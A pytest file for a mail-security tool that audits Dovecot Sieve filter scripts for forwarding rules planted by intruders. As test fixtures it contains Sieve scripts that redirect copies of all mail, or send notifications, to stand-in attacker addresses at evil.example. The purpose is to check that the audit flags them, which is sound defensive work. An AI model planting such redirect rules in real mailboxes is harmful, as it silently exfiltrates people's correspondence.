"""The forwarding audit against a real Dovecot with Pigeonhole ManageSieve (issue 4's "done when":
the audit catches a redirect planted in a real Dovecot Sieve script)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from civicshield.connectors.base import (
    TLS_FAILED,
    UNTRUSTED_CERTIFICATE,
    WRONG_PASSWORD,
    AuthenticationFailed,
    ProtocolFailed,
    ServerUnreachable,
    SieveSettings,
    TlsFailed,
)
from civicshield.connectors.managesieve import SieveAccount, audit_sieve
from civicshield.core.forwarding import HACKED_ADVICE
from tests.servers.dovecot import free_port

pytestmark = pytest.mark.dovecot

OFFICE_DOMAINS = ["example.gov.uk"]

PLANTED = """require ["copy"];
# rule:[Keep a copy]
redirect :copy "attacker@evil.example";
"""

COLLEAGUE = """require ["fileinto"];
# rule:[Holiday cover]
redirect "caseworker@example.gov.uk";
"""


def sieve_settings(account, password=None) -> SieveSettings:
    return SieveSettings(
        host=account.server.host,
        port=account.server.sieve_port,
        username=account.address,
        password=password or account.password,
        starttls=False,  # loopback test server without TLS
    )


def plant(account, name: str, text: str, *, activate: bool) -> None:
    with SieveAccount(sieve_settings(account)) as sieve:
        sieve.put_script(name, text)
        if activate:
            sieve.activate(name)


def test_the_audit_catches_a_redirect_planted_in_a_real_sieve_script(mail_account):
    plant(mail_account, "roundcube", PLANTED, activate=True)
    audit = audit_sieve(sieve_settings(mail_account), mail_account.address, OFFICE_DOMAINS)
    [finding] = audit.findings
    assert finding.alert is True
    assert finding.external is True
    assert finding.target == "attacker@evil.example"
    assert finding.rule_name == "Keep a copy"
    assert finding.detail.startswith(
        f"A rule named 'Keep a copy' in the filter script 'roundcube' of the mailbox "
        f"{mail_account.address} sends a copy of every email to attacker@evil.example, "
        "which is outside your office."
    )
    assert finding.detail.endswith(HACKED_ADVICE)
    assert audit.checked == ("filter script 'roundcube' (in use)",)


def test_a_redirect_to_a_colleague_is_reported_but_is_not_an_alert(mail_account):
    plant(mail_account, "cover", COLLEAGUE, activate=True)
    audit = audit_sieve(sieve_settings(mail_account), mail_account.address, OFFICE_DOMAINS)
    [finding] = audit.findings
    assert finding.target == "caseworker@example.gov.uk"
    assert finding.external is False
    assert audit.alerts == ()


def test_a_script_that_is_switched_off_is_listed_but_not_alerted(mail_account):
    plant(mail_account, "cover", COLLEAGUE, activate=True)
    plant(mail_account, "spare", PLANTED, activate=False)
    audit = audit_sieve(sieve_settings(mail_account), mail_account.address, OFFICE_DOMAINS)
    by_target = {f.target: f for f in audit.findings}
    assert by_target["attacker@evil.example"].active is False
    assert by_target["attacker@evil.example"].alert is False
    assert set(audit.checked) == {
        "filter script 'cover' (in use)",
        "filter script 'spare' (switched off)",
    }


def test_a_mailbox_without_scripts_has_nothing_to_report(mail_account):
    audit = audit_sieve(sieve_settings(mail_account), mail_account.address, OFFICE_DOMAINS)
    assert audit.findings == () and audit.checked == () and audit.problems == ()


def test_list_and_read_scripts_back(mail_account):
    plant(mail_account, "one", COLLEAGUE, activate=False)
    plant(mail_account, "two", PLANTED, activate=True)
    with SieveAccount(sieve_settings(mail_account)) as sieve:
        assert sieve.list_scripts() == (["one", "two"], "two")
        assert sieve.get_script("two").strip() == PLANTED.strip()


def test_the_server_refuses_a_broken_script_with_its_reason(mail_account):
    with SieveAccount(sieve_settings(mail_account)) as sieve:
        with pytest.raises(ProtocolFailed) as caught:
            sieve.put_script("broken", 'redirect "x@y.example"')  # missing ';'
    assert "The server refused the filter script 'broken'" in str(caught.value)


def test_a_wrong_password_is_refused_clearly(mail_account):
    settings = sieve_settings(mail_account, password="wrong")
    with pytest.raises(AuthenticationFailed) as caught:
        SieveAccount(settings).connect()
    assert str(caught.value) == WRONG_PASSWORD.format(
        host=settings.host, username=mail_account.address
    )


def test_an_unreachable_server_is_retryable():
    settings = SieveSettings(host="127.0.0.1", port=free_port(), username="x", password="y")
    with pytest.raises(ServerUnreachable) as caught:
        SieveAccount(settings).connect()
    assert caught.value.retryable is True


ROUNDCUBE_STYLE = """require ["copy","enotify","fileinto","variables"];
# rule:[Spam]
if header :contains "x-spam-flag" "yes"
{
\tfileinto "Junk";
\tstop;
}
# rule:[Casework to team]
if address :domain :is "from" "council.example.gov.uk"
{
\tredirect :copy "casework@example.gov.uk";
}
# rule:[tell me]
if true
{
\tnotify :message "New mail: ${1}" "mailto:alerts.collector@evil.example";
}
"""


def test_a_roundcube_style_script_accepted_by_dovecot_is_read_rule_by_rule(mail_account):
    # Dovecot checks the script when it is uploaded, so this is a shape a real server takes.
    plant(mail_account, "roundcube", ROUNDCUBE_STYLE, activate=True)
    audit = audit_sieve(sieve_settings(mail_account), mail_account.address, OFFICE_DOMAINS)
    found = {(f.rule_name, f.kind, f.target, f.alert) for f in audit.findings}
    assert found == {
        ("Casework to team", "redirect", "casework@example.gov.uk", False),
        ("tell me", "notify", "alerts.collector@evil.example", True),
    }


def test_starttls_with_an_untrusted_certificate_is_a_tls_problem(mail_account):
    # The session's Dovecot offers STARTTLS with its own self-signed certificate.
    settings = replace(sieve_settings(mail_account), starttls=True)
    with pytest.raises(TlsFailed) as caught:
        SieveAccount(settings).connect()
    reason = UNTRUSTED_CERTIFICATE.format(why="self-signed certificate")
    assert str(caught.value) == TLS_FAILED.format(
        host=settings.host, port=settings.port, reason=reason
    )
